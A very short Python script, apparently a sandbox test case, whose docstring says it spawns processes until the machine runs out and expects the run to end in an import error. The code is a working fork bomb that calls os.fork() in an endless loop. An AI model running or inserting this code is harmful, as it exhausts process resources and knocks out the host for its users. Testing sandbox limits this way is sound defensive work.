"""Starts processes until the machine has no more.

Ends: import_error
"""

import os

while True:
    os.fork()
